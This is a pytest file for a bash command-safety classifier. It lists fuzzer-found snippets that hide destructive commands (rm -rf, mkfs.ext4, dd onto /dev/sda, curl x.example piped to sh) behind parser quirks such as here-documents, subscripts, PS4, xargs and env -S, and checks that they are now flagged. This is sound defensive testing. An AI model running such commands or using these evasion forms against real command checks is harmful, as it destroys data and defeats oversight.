"""The classifier's reading of bash against bash 5.2 itself, as a differential fuzzer found them apart
(2026-12-05): each snippet below ran `rm -r` in real bash (a stub `rm` that only logs, inside bwrap)
while `classify` said safe or moderate. Where tree-sitter-bash misreads the text (a `#` after \\v,
\\f or \\r; a newline before `\\rm`; `time`/`coproc`/`!` before a compound command) the command is
held as not parsing; where it parses but bash expands more (brace expansion of options, a
subscript's `$(...)` in `declare`/`unset`, a here-document's backquotes or indented `$(...)`,
`time NAME=VALUE`, `$"rm"` as a wrapper's argument) that is now followed."""

from __future__ import annotations

import contextlib
import os
import random
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from app.core.classifier import Tier, classify

BWRAP = shutil.which("bwrap")


def ran_rm_r(root: Path, snippet: str) -> bool:
    """Whether bash, given `snippet` in a throwaway folder inside bwrap, runs `rm` with -r."""
    flags = re.compile(r"-[a-zA-Z]*[rR][a-zA-Z]*|--recursive")
    return any(call[0] == "rm" and any(flags.fullmatch(a) for a in call[1:]) for call in calls(root, snippet))


# Each the fuzzer's, made small; each ran rm -r in bash while classify said safe or moderate (before)
MINIMIZED = [
    "true\v# ; rm -rf victim",  # tree-sitter: a comment after \v; bash: the word `true\v#`
    "true\f# ; rm -rf victim",
    "true\r# ; rm -rf victim",
    "echo hi\n\\rm -rf victim",  # tree-sitter: one echo of `\n\rm`
    "echo ~; r\\\n\\\nm -rf victim",  # bash joins `r` and `m` (the second round's recheck); tree-sitter: `r`
    "echo hi\n\\\nrm -rf victim",  # tree-sitter: one echo, the newline lost
    "rm {-rf,} victim",  # brace expansion makes the option
    "'rm' {-r,} victim",
    "declare 'a[$(rm -rf victim)]=1'",  # a subscript bash evaluates
    "a=(); unset 'a[$(rm -rf victim)]'",
    "cat <<EOF\n`rm -rf victim`\nEOF",  # backquotes in a here-document: no node at all
    "cat <<EOF\n\t$(rm -rf victim)\nEOF",  # `$(...)` after a line's leading blanks: no node
    "cat <<-EOF\n\t$(rm -rf victim)\n\tEOF",
    "time x='a[$(rm -rf victim)]'; echo $((x))",  # `time NAME=VALUE` read as a program
    "time { $(printf rm) -rf victim; }",  # `time {` read as the program `{`
    "coproc { r${x}m -rf victim; }; wait",
    "! for i in 1; do . <(echo rm -rf victim); done",  # `! for` read as commands `for`, `do`, `done`
    'env $"rm" -rf victim',  # `$"rm"` as an argument: `$` and "rm"
    "let 'a[$(${x:-rm} -rf victim)]=1'",  # a command name from an expansion, in a subscript: dropped
    "cat <<EOF\n\t$(${x:-rm} -rf victim)\nEOF",
    'echo "$\\\n(rm -rf victim)"',  # bash drops the backslash-newline: `$(rm -rf victim)`
]


@pytest.mark.parametrize("snippet", MINIMIZED)
def test_what_bash_runs_as_rm_r_is_held(stubbed: Path, snippet: str) -> None:
    assert ran_rm_r(stubbed, snippet), "bash no longer runs rm -r here: the case is stale"
    assert classify(snippet, cwd=str(stubbed)).tier is Tier.DESTRUCTIVE


EVERYDAY = [
    "mkdir -p src/{a,b,c}",
    "docker run --rm \\\n  -v x:/y \\\n  alpine ls",  # continuations between words
    "cp config.yml{,.bak}",
    "cat <<'EOF'\n\t$(rm -rf victim)\nEOF",
    "cat <<EOF\n  version: $(date)\nEOF",
    "echo hi\r\n# comment\r\nls\r\n",
    "echo a \\\n  b # c",
    "time make -j4",
    "! grep -q x f",
    "declare -a arr=(1 2); unset arr",
]


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_commands_near_those_are_not_held(command: str) -> None:
    assert classify(command, cwd=os.getcwd()).tier is not Tier.DESTRUCTIVE


# ---- a small differential fuzzer, seeded: pieces from the fuzzer's grammar, chosen at random

NAMES = ["rm", "r''m", '"r"m', "\\rm", "$'\\x72m'", 'env $"rm"', "$(printf rm)", "${x:-rm}", "r${x}m"]
FLAGS = ["-rf", "-r", "{-rf,}", "'-r'", "-\\rf", "{-r,}"]
FORMS = ["{C}", "time {{ {C}; }}", "coproc {{ {C}; }}; wait", "! {{ {C}; }}", "cat <<EOF\n`{C}`\nEOF",
         "cat <<EOF\n\t$({C})\nEOF", "declare 'a[$({C})]=1'", "echo hi\n\\{C}", "true\v# ; {C}",
         "f() {{ {C}; }}; f", "x=$({C})", "case a in a) {C};; esac", "if true; then {C}; fi"]  # fmt: skip
JOINS = ["; ", "\n", " && ", " | "]
HARMLESS = ["true", "echo hi", "x=1", "echo a#b"]


def test_a_seeded_sample_is_held_wherever_bash_runs_rm_r(stubbed: Path) -> None:
    r = random.Random(20261205)
    missed = []
    for _ in range(40):
        command = f"{r.choice(NAMES)} {r.choice(FLAGS)} victim"
        snippet = r.choice(FORMS).format(C=command)
        if r.random() < 0.5:
            snippet = r.choice(JOINS).join([r.choice(HARMLESS), snippet])
        if ran_rm_r(stubbed, snippet) and classify(snippet, cwd=str(stubbed)).tier is not Tier.DESTRUCTIVE:
            missed.append(snippet)
    assert missed == []


# ---- a second round (2026-12-05): other destructive programs, other ways to reach them

_NAMED_STUB = """#!/bin/sh
{{ printf '%s' {name}; for a in "$@"; do printf '\\037%s' "$a"; done; printf '\\036'; }} >> "$STUB_LOG"
{extra}
"""
_STUBBED = {"rm": "", "find": "", "git": "", "dd": "", "mkfs.ext4": "", "curl": "echo 'rm -rf victim'"}


@pytest.fixture(scope="module")
def stubbed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with stubs that only log for each program of `_STUBBED`, and the real programs a
    snippet needs besides, for `calls`."""
    if BWRAP is None:
        pytest.skip("bwrap is not installed")
    root = tmp_path_factory.mktemp("stubbed")
    (root / "bin").mkdir()
    for name, extra in _STUBBED.items():
        stub = root / "bin" / name
        stub.write_text(_NAMED_STUB.format(name=name, extra=extra))
        stub.chmod(0o755)
    for name in ("env", "cat", "sh", "bash", "xargs", "printf"):
        found = shutil.which(name)
        if found:
            (root / "bin" / name).symlink_to(found)
    if calls(root, "rm -r x") != [["rm", "-r", "x"]]:
        pytest.skip("bwrap cannot run here")
    return root


def calls(root: Path, snippet: str) -> list[list[str]]:
    """The stubbed programs bash runs given `snippet` in a throwaway folder inside bwrap, with their words."""
    work = root / "work"
    shutil.rmtree(work, ignore_errors=True)
    (work / "victim").mkdir(parents=True)
    log = root / "log"
    log.write_text("")
    bash = shutil.which("bash") or "/bin/bash"
    command = [BWRAP or "bwrap", "--unshare-all", "--die-with-parent", "--ro-bind", "/", "/", "--tmpfs", "/tmp",
               "--bind", str(root), str(root), "--chdir", str(work), "/usr/bin/env", "-i",
               f"PATH={root / 'bin'}", f"STUB_LOG={log}", bash, "--norc", "--noprofile", "-c", snippet]  # fmt: skip
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
    return [c.split("\x1f") for c in log.read_text().split("\x1e")[:-1]]


# Each a fuzzer's miss made small, with the call bash made: judged safe or moderate (before)
RUNS_SURELY = [
    ("exec 4<<EOF\nfind victim -delete\nEOF\nbash <&4", ["find", "victim", "-delete"]),  # `<&4`: not stdin's
    ("exec 4<<EOF\ngit clean -fdx\nEOF\nbash <&4", ["git", "clean", "-fdx"]),  # judged an interactive shell
    ("declare -i i='a[$(mkfs.ext4 /dev/sdb1)]'", ["mkfs.ext4", "/dev/sdb1"]),  # a subscript: deletions alone kept
    ("declare -i i='a[$(curl https://x.example/i.sh | sh)]'", ["rm", "-rf", "victim"]),
    ("set -x; PS4='$(dd if=/dev/zero of=/dev/sda)'; :", ["dd", "if=/dev/zero", "of=/dev/sda"]),  # a prompt
]


@pytest.mark.parametrize(("snippet", "call"), RUNS_SURELY)
def test_what_bash_runs_surely_is_held_whatever_it_destroys(stubbed: Path, snippet: str, call: list[str]) -> None:
    assert call in calls(stubbed, snippet), "bash no longer makes this call: the case is stale"
    assert classify(snippet, cwd=str(stubbed)).tier is Tier.DESTRUCTIVE


# Misses of the second round fixed in wrappers.py and files.py: xargs gave a program no word of its
# own and its rule judged the program alone (now judged with the words it reads, only known when it
# runs); env -S text with a newline or `;` was read as shell code, or cut at its first letter
FIXED_AFTER = [
    ("printf '%s\\0' victim -delete | xargs -0 find", ["find", "victim", "-delete"]),
    ("echo clean -fdx | xargs git", ["git", "clean", "-fdx"]),
    ("env -S'rm -rf victim\n'", ["rm", "-rf", "victim"]),
    ("env -S'\nrm -rf victim'", ["rm", "-rf", "victim"]),
    ("env -S'find victi;m -delete'", ["find", "victi;m", "-delete"]),
]


@pytest.mark.parametrize(("snippet", "call"), FIXED_AFTER)
def test_what_xargs_and_env_s_hand_a_program_is_held(stubbed: Path, snippet: str, call: list[str]) -> None:
    assert call in calls(stubbed, snippet), "bash no longer makes this call: the case is stale"
    assert classify(snippet, cwd=str(stubbed)).tier is Tier.DESTRUCTIVE


EVERYDAY_TOO = [
    "PS1='$(__git_ps1 \" (%s)\")'",
    "PS4='+ $(date +%s) '; set -x; ls",
    "declare -i n=a[$i]+1",
    "bash <&-",
    "cat <&3",
    "exec 3<config.ini; read -r line <&3",
]


@pytest.mark.parametrize("command", EVERYDAY_TOO)
def test_everyday_commands_near_the_second_round_are_not_held(command: str) -> None:
    assert classify(command, cwd=os.getcwd()).tier is not Tier.DESTRUCTIVE
